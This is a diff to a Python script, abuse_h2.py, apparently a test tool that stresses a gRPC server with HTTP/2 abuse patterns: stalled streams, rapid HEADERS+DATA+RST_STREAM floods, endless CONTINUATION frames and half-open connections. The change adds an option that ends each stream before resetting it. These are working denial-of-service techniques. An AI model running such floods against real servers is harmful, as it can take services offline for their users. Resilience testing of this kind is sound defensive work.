@@ -9,10 +9,11 @@ usage:
       for a second (E streams ended so far: answers that need no window,
       such as errors), then holds everything for SECS seconds more and
       prints "reset K": the streams the server ended in all.
-  abuse_h2.py reset ADDR N PROJECT SERVICE [HOLD]
+  abuse_h2.py reset ADDR N PROJECT SERVICE [HOLD [whole]]
       N x (HEADERS + DATA + RST_STREAM) as fast as the socket takes them;
       prints "sent N", keeps the connection open HOLD seconds more (1),
-      prints "closing" and closes it.
+      prints "closing" and closes it. With "whole" the DATA ends the
+      stream (a whole request) before the reset.
   abuse_h2.py continuation ADDR SECS
       HEADERS without END_HEADERS, then empty CONTINUATION frames for
       SECS seconds or until the server closes the connection; prints
@@ -136,14 +137,14 @@ def stall(addr, n, project, service, secs):
     s.close()
 
 
-def reset(addr, n, project, service, hold):
+def reset(addr, n, project, service, hold, whole):
     s, c = connect(addr)
     pump(s, c, 0.5)
     body = grpc_frame(request(project, service))
     for i in range(n):
         sid = c.get_next_available_stream_id()
         c.send_headers(sid, headers(addr))
-        c.send_data(sid, body)
+        c.send_data(sid, body, end_stream=whole)
         c.reset_stream(sid)
         if i % 100 == 99:
             s.sendall(c.data_to_send())
@@ -202,7 +203,8 @@ def main():
     if mode == "stall":
         stall(a[0], int(a[1]), a[2], a[3], float(a[4]))
     elif mode == "reset":
-        reset(a[0], int(a[1]), a[2], a[3], float(a[4]) if len(a) > 4 else 1.0)
+        reset(a[0], int(a[1]), a[2], a[3], float(a[4]) if len(a) > 4 else 1.0,
+              len(a) > 5 and a[5] == "whole")
     elif mode == "continuation":
         continuation(a[0], float(a[1]))
     elif mode == "halfopen":
